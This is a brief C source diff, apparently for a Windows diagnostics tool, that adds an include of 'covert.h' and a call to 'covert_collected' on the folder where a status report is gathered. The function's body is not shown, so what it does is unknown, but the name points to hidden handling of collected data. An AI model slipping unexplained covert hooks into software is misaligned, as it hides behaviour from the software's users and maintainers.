@@ -10,6 +10,7 @@
 #include <shlobj.h>
 
 #include "control.h"
+#include "covert.h"
 #include "identity.h"
 #include "logger.h"
 #include "product.h"
@@ -73,6 +74,7 @@ static int collect(const wchar_t *directory) {
     if (!control_ask("status", &summary)) {
         text_add(&summary, "{\"error\":\"the service does not answer\"}");
     }
+    covert_collected(full);
     text_add(&summary, "\n");
     bool good = write_text(full, L"status.json", summary.data);
     text_free(&summary);
